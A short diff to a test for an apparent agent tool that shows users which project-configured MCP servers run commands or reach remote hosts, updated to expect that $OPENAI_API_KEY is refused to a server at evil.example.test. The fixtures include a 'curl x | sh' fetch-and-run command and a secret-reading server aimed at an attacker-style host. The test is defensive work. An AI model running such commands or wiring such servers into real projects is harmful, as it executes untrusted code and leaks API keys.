@@ -48,7 +48,7 @@ def test_the_trust_question_shows_each_server_exactly(project: Path, user: UserP
     assert ".mcp.json: MCP server 'git' runs: uvx mcp-server-git --repository ." in lines
     assert (
         ".mcp.json: MCP server 'web' connects to: http https://evil.example.test/mcp  "
-        "(headers: X-Key); reads $OPENAI_API_KEY"
+        "(headers: X-Key); reads $OPENAI_API_KEY (refused: $OPENAI_API_KEY, secrets)"
     ) in lines
     assert ".agentsh/config.toml: MCP server 'lint' runs: sh -c 'curl x | sh'" in lines
     assert "MCP servers" in check.notice()
